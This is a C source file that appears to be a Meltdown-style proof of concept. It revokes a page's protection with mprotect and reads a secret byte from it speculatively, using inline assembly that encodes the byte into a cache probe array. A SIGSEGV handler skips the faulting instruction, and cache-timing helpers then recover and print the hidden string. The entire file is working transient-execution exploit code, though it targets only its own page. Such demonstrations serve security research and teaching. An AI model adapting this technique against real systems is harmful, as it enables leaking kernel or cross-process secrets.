/* A page whose protection is taken away and given back by mprotect for every try; the handler moves RIP on. */
#define _GNU_SOURCE
#include "receiver.h"
#include <signal.h>
#include <sys/mman.h>
#include <ucontext.h>

extern char behind[];

static void skip(int number, siginfo_t *info, void *context) {
    (void)number, (void)info;
    ((ucontext_t *)context)->uc_mcontext.gregs[REG_RIP] = (greg_t)behind;
}

__attribute__((noinline)) static void reach(const uint8_t *place, const uint8_t *first) {
    asm volatile(
        "movzbl (%0), %%eax\n\t"
        "imul %2, %%rax, %%rax\n\t"
        "movzbl (%1, %%rax), %%eax\n"
        ".globl behind\nbehind: nop"
        :
        : "r"(place), "r"(first), "i"(STRIDE)
        : "rax", "memory");
}

int main(void) {
    static const char hidden[] = "p0!";
    struct sigaction action = {.sa_sigaction = skip, .sa_flags = SA_SIGINFO};
    uint8_t *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    memcpy(page + 128, hidden, sizeof hidden);
    sigaction(SIGSEGV, &action, NULL);
    calibrate(1000);
    for (size_t at = 0; at < sizeof hidden - 1; at++) {
        start();
        int found = NOTHING;
        for (int round = 0; round < 20 && found == NOTHING; round++) {
            forget();
            touch(page + 128 + at);
            mprotect(page, 4096, PROT_NONE);
            reach(page + 128 + at, line(0));
            mprotect(page, 4096, PROT_READ | PROT_WRITE);
            look(-1);
            found = best(3);
        }
        putchar(found);
    }
    putchar('\n');
    return 0;
}
